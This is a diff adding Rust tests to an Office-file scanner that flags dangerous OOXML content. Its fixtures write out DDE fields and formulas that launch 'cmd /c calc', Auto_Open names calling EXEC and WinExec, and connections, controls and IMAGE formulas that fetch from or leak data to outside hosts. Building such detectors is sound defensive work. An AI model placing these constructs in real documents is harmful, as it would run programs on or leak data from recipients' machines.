@@ -2,7 +2,7 @@
 
 use crate::containers::vba::tests::{SOURCE, compress, dir, project};
 use crate::testing::{Recorded, walk, walk_with};
-use lazaret_model::{Limits, Role};
+use lazaret_model::{Limits, Role, Severity};
 use std::io::{Cursor, Write as _};
 use zip::write::{SimpleFileOptions, ZipWriter};
 
@@ -78,6 +78,32 @@ fn dde_becomes_a_command_even_across_runs() {
     assert_eq!(recorded.part("//dde").kind.id, "command-line");
     let text = r#"<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>"#;
     assert_eq!(check(&[("xl/externalLinks/e.xml", text.as_bytes())]).bytes("//dde"), b"cmd /c calc");
+}
+
+#[test]
+fn dde_is_found_whatever_parts_its_word_from_the_command() {
+    const BEGIN: &str = r#"<w:r><w:fldChar w:fldCharType="begin"/></w:r>"#;
+    const END: &str = r#"<w:r><w:fldChar w:fldCharType="end"/></w:r>"#;
+    let code = |text: &str| format!("<w:r><w:instrText>{text}</w:instrText></w:r>");
+    let simple = |text: &str| format!("<w:fldSimple w:instr=\"{text}\"/>");
+    for (field, command) in [
+        (code("DDE\tcmd"), Some("cmd")),
+        (code("DDE\ncmd"), Some("cmd")),
+        (code("DDE&#160;cmd"), Some("cmd")),
+        (code(r#"DDE"C:\\cmd.exe" "/c calc""#), Some(r"C:\cmd.exe /c calc")),
+        (format!("{}<w:r><w:tab/>{}</w:r>", code("DDE"), code("cmd")), Some("cmd")),
+        (format!("{}{BEGIN}{}{END}", code("DDE"), code("REF c")), Some("REF c")),
+        (format!("{}{}", code("DDE"), simple("REF c")), Some("REF c")),
+        (simple("DDE&#9;cmd"), Some("cmd")),
+        (code(r#"XE "DDE links""#), None),
+        (code(r#"TOC \o "1-3""#), None),
+    ] {
+        let text = format!("<w:p>{BEGIN}{field}{END}</w:p>");
+        let recorded = check(&[("word/document.xml", text.as_bytes())]);
+        let found = recorded.parts.iter().find(|part| part.name == "dde");
+        let found = found.map(|part| String::from_utf8_lossy(&recorded.bytes[&part.id]).into_owned());
+        assert_eq!(found.as_deref(), command, "{field}");
+    }
 }
 
 #[test]
@@ -266,6 +292,37 @@ fn a_share_is_reported_whatever_it_is_to_the_document() {
 }
 
 #[test]
+fn sources_of_letters_controls_and_add_ins_elsewhere_are_reported() {
+    const SHOWN: &str = "Office.AutoShowTaskpaneWithDocument";
+    let merge = |value: &str| format!(r#"<w:mailMerge><w:connectString w:val="{value}"/></w:mailMerge>"#);
+    let control =
+        |name: &str, value: &str| format!(r#"<ax:ocx><ax:ocxPr ax:name="{name}" ax:value="{value}"/></ax:ocx>"#);
+    let add_in = |store: &str, property: &str| {
+        format!(
+            r#"<we:webextension><we:reference id="x" store="{store}"/><we:property name="{property}" value="true"/></we:webextension>"#
+        )
+    };
+    for (text, reported) in [
+        (merge(r"Provider=x;Data Source=\\host.invalid\s\a.mdb"), true),
+        (merge(r"Provider=x;Data Source=C:\data\a.mdb"), false),
+        (merge(r"Provider=x;Data Source=\\server\team\a.mdb"), false),
+        (control("URL", "https://host.invalid/a.wmv"), true),
+        (control("Location", r"\\host.invalid\s\a.html"), true),
+        (control("Caption", "https://host.invalid/"), false),
+        (control("Data", "12"), false),
+        (add_in("https://host.invalid/sites/a", SHOWN), true),
+        (add_in("https://host.invalid/sites/a", "other"), false),
+        (add_in("en-US", SHOWN), false),
+        (relation("mailMergeSource", "https://host.invalid/a.mdb", "External"), true),
+        (relation("mailMergeHeaderSource", "file:///C:\\a.csv", "External"), false),
+    ] {
+        let found: Vec<_> = check(&[("word/a.xml", text.as_bytes())]).findings;
+        let high = found.iter().any(|f| f.id == "ooxml.external-image" && f.severity == Severity::High);
+        assert_eq!(high, reported, "{text}: {found:?}");
+    }
+}
+
+#[test]
 fn fields_that_fetch_are_reported_as_relationships_are() {
     for (code, id) in [
         (r#"INCLUDEPICTURE "\\\\host.invalid\\a.png" \d"#, Some("ooxml.external-image high")),
@@ -315,6 +372,61 @@ fn a_slide_that_runs_a_program_and_a_formula_that_asks_one_are_reported() {
     }
     let sheet = r#"<sheetData><c r="A1"><f>1+cmd|&apos;/c calc&apos;!A0</f></c></sheetData>"#;
     assert_eq!(check(&[("xl/worksheets/sheet1.xml", sheet.as_bytes())]).bytes("//dde"), b"cmd /c calc");
+}
+
+#[test]
+fn data_on_a_share_outside_of_the_house_is_reported_where_it_is_fetched_at_once() {
+    for (connection, refresh, reported) in [
+        (r"Provider=Microsoft.ACE.OLEDB.12.0;Data Source=\\host.invalid\s\a.xlsx;Extended Properties=x", "1", true),
+        (r"DRIVER={Microsoft Text Driver};DBQ=\\203.0.113.5\s", "true", true),
+        (r"Provider=x;Data Source=\\host.invalid\s\a.xlsx", "0", false),
+        (r"Provider=x;Data Source=\\server\team\a.xlsx", "1", false),
+        (r"Provider=SQLOLEDB;Data Source=sql.house.invalid;Initial Catalog=x", "1", false),
+    ] {
+        let text = format!(
+            r#"<connections><connection id="1" refreshOnLoad="{refresh}"><dbPr connection="{connection}"/></connection></connections>"#
+        );
+        let recorded = check(&[("xl/connections.xml", text.as_bytes())]);
+        assert_eq!(recorded.findings.iter().any(|f| f.id == "ooxml.external-image"), reported, "{connection}");
+    }
+    // A table of the sheet may say that it is refreshed.
+    let data =
+        r#"<connections><connection id="1"><dbPr connection="DBQ=\\host.invalid\s"/></connection></connections>"#;
+    let table = r#"<queryTable connectionId="1" refreshOnLoad="1"/>"#;
+    let recorded =
+        check(&[("xl/connections.xml", data.as_bytes()), ("xl/queryTables/queryTable1.xml", table.as_bytes())]);
+    assert!(recorded.findings.iter().any(|f| f.id == "ooxml.external-image"));
+}
+
+#[test]
+fn workbooks_elsewhere_in_formulas_and_formulas_of_names_are_reported() {
+    let sheet = |formula: &str| format!("<sheetData><c r=\"A1\"><f>{formula}</f></c></sheetData>");
+    for (formula, id) in [
+        (r"'\\host.invalid\s\[a.xlsx]S'!A1", Some("ooxml.external-image")),
+        (r"'C:\Windows\System32\cmd.exe'|'/c calc'!A0", Some("ooxml.dde")),
+        ("cmd|calc!A0", Some("ooxml.dde")),
+        ("_xlfn.IMAGE(\"https://host.invalid/?\"&amp;A2)", Some("ooxml.web-formula")),
+        ("_xlfn.IMAGE(\"https://host.invalid/a.png\")", None),
+        ("HYPERLINK(\"https://host.invalid/?id=\"&amp;A2)", None),
+        (r"'C:\data\[a.xlsx]S'!A1", None),
+        ("'ms-data sheet'!A1", None),
+    ] {
+        let recorded = check(&[("xl/worksheets/sheet1.xml", sheet(formula).as_bytes())]);
+        let found = recorded.findings.iter().map(|f| &*f.id).find(|id| id.starts_with("ooxml."));
+        assert_eq!(found, id, "{formula}");
+    }
+    for (name, formula, reported) in [
+        ("_xlnm.Auto_Open", "EXEC(\"calc\")", true),
+        ("_xlnm.Auto_Open", "EXEC(A1)", true),
+        ("x", "CALL(\"kernel32\",\"WinExec\",\"JCJ\",\"calc\",0)", true),
+        ("x", "Sheet1!$A$1", false),
+        ("x", "EXEC(A1)", false),
+    ] {
+        let book = format!(r#"<definedNames><definedName name="{name}">{formula}</definedName></definedNames>"#);
+        let recorded = check(&[("xl/workbook.xml", book.as_bytes())]);
+        let found = recorded.findings.iter().any(|f| f.id == "ooxml.library-formula");
+        assert_eq!(found, reported, "{name} {formula}");
+    }
 }
 
 #[test]
